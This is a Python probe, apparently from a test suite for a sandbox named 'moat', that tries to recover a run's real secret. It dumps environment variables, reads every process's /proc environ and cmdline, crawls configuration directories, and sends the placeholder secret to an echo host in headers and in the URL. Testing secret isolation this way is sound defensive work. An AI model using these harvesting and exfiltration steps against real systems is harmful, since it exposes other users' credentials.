# secret_read: find the real value of the run's secret, whose variable
# holds only a placeholder: in its own environment, in every process's
# environment and command line it can read, in the files moat gives it, and
# by sending the placeholder to an allowed host that echoes its request
# back, by header and in the URL. The real value in the output, or reaching
# the echoing host, decides.
import glob


def dump(label, data):
    sys.stdout.write("MOAT-SEEN %s " % label)
    sys.stdout.flush()
    sys.stdout.buffer.write(data[:65536] + b"\n")
    sys.stdout.buffer.flush()


def attack():
    placeholder = os.environ.get(P["name"], "")
    dump("env", ("\n".join("%s=%s" % kv for kv in os.environ.items())).encode())
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as f:
                dump(path, f.read())
        except BaseException as e:
            fail(e, path)
    for path in ("/etc/moat", "/run/moat", os.getcwd()):
        for name in glob.glob(path + "/**", recursive=True)[:200]:
            try:
                with open(name, "rb") as f:
                    dump(name, f.read(65536))
            except BaseException:
                pass
    echo = "http://%s:%d" % (P["hosts"]["echo"], P["ports"]["echo"])
    for url, headers in ((echo + "/", {"Authorization": "Bearer " + placeholder, "X-Key": placeholder}),
                         (echo + "/?key=" + placeholder, {})):
        try:
            dump("echo", proxy_get(url, headers))
        except BaseException as e:
            refused(e, "echo")
    sys.exit(3)


main(attack)
